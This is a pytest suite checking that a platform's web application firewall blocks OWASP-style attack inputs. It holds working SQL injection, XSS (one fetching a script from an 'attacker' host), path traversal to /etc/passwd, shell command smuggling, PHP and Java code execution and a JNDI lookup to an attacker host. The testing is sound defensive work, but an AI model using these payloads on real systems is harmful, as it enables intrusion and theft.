"""Attacks are refused, wherever in a request to the platform they stand.

The payloads are of the forms that OWASP's Web Security Testing Guide 4.2 shows in its chapters on
input validation (https://owasp.org/www-project-web-security-testing-guide/v42).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable

    import httpx

pytestmark = pytest.mark.engine

PAYLOADS = {
    "SQL: always true": "1' or '1' = '1",
    "SQL: comment": "1' or '1' = '1' -- ",
    "SQL: union": "1 UNION ALL SELECT creditCardNumber,1,1 FROM CreditCardTable",
    "SQL: second statement": "10; INSERT INTO users (name) VALUES ('x')",
    "SQL: time": "10 AND IF(version() like '5%', sleep(10), 'false'))--",
    "XSS: script": "<script>alert(123)</script>",
    "XSS: closed attribute": '"><script>alert(document.cookie)</script>',
    "XSS: event": '" onfocus="alert(document.cookie)',
    "XSS: image": "<img src=x onerror=alert(1)>",
    "XSS: external script": '<SCRIPT%20a=">"%20SRC="http://attacker/xss.js"></SCRIPT>',
    "file: parent folders": "../../../../etc/passwd",
    "file: Windows": "..\\..\\..\\boot.ini",
    "file: doubly encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "command: list": "Doc1.pdf;cat /etc/passwd",
    "command: pipe": "x|/bin/ls -la",
    "command: substitution": "$(cat /etc/passwd)",
    "command: backquotes": "`cat /etc/passwd`",
    "code: PHP": "<?php system('id'); ?>",
    "code: JNDI": "${jndi:ldap://attacker/a}",
    "code: Java": "java.lang.Runtime.getRuntime().exec('id')",
}

PLACES: dict[str, Callable[[httpx.Client, str], httpx.Response]] = {
    "filter": lambda client, payload: client.get(
        "/rest/v1/todos", params={"title": f"eq.{payload}"}
    ),
    "row": lambda client, payload: client.post("/rest/v1/todos", json={"title": payload}),
    "sign-up": lambda client, payload: client.post(
        "/auth/v1/signup",
        json={"email": "ann@example.com", "password": "a password", "data": {"name": payload}},
    ),
    "elsewhere": lambda client, payload: client.get("/nowhere", params={"q": payload}),
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", PAYLOADS)
def test_payload_is_refused(client: httpx.Client, name: str, place: str) -> None:
    answer = PLACES[place](client, PAYLOADS[name])
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "blocked")


@pytest.mark.parametrize("agent", ["sqlmap/1.8", "Nikto/2.5.0", "Mozilla/5.0 (Nessus)"])
def test_scanner_is_refused(client: httpx.Client, agent: str) -> None:
    assert client.get("/rest/v1/todos", headers={"User-Agent": agent}).status_code == 403


def test_attack_in_the_head_of_an_upload_is_refused(client: httpx.Client) -> None:
    answer = client.post(
        "/upload/v1/a.png", params={"x": PAYLOADS["XSS: script"]}, content=b"\0" * 2_000_000
    )
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "blocked")


@pytest.mark.parametrize(
    ("target", "status"),
    [
        ("/rest/v1/todos", 200),  # here no gateway stands behind, which would say 401
        ("/rest/v1/todos?x=1+UNION+ALL+SELECT+a,1+FROM+CreditCardTable", 403),
        ("/auth/v1/verify", 403),
        ("/auth/v1//verify", 403),
        ("/rest/v1/todos?x=%61pikey", 403),
    ],
    ids=["refused by its head", "attack in the head", "public", "as if public", "unsure"],
)
def test_body_without_a_key_is_not_inspected_where_the_gateway_needs_one(
    firewall_raw: Callable[[str, str, bytes], int], target: str, status: int
) -> None:
    body = b'{"title": "<script>alert(1)</script>"}'
    assert firewall_raw("POST", target, body) == status


@pytest.mark.parametrize(
    "path",
    [
        "/auth/v1/../../rest/v1/todos",
        "/auth/v1/%2e%2e/%2e%2e/rest/v1/todos",
        "/auth/v1//..//../rest/v1/todos",
    ],
)
def test_exclusion_for_passwords_does_not_follow_to_other_paths(
    firewall_raw: Callable[[str, str, bytes], int], path: str
) -> None:
    assert firewall_raw("POST", path, b"{\"password\": \"1' or '1' = '1\"}") == 403


@pytest.mark.parametrize(
    "path",
    [
        "/upload/v1/..%5c..%5crest/v1/todos",
        "/upload/v1/..\\..\\rest/v1/todos",
        "/upload/v1/%2e%2e%2f%2e%2e%2frest/v1/todos",
    ],
)
def test_path_that_may_mean_two_is_refused(
    firewall_raw: Callable[[str, str, bytes], int], path: str
) -> None:
    # As an upload its body would not be inspected.
    assert firewall_raw("POST", path, b'{"title": "<script>alert(1)</script>"}') == 400
